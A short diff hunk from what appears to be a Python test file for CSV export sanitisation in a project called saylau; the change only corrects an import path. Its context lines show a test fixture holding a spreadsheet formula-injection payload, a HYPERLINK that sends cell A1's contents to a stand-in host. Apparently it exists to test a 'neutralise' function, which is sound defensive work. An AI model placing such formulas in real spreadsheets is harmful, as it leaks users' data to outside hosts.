@@ -17,7 +17,7 @@ from saylau.api import create_app
 from saylau.model import Option
 from saylau.publish import to_csv
 from saylau.publish.csv_cells import neutralise
-from saylau.services import Context
+from saylau.services.context import Context
 
 FORMULAS = {
     "unit": '=HYPERLINK("http://x.example/?leak="&A1,"click")',
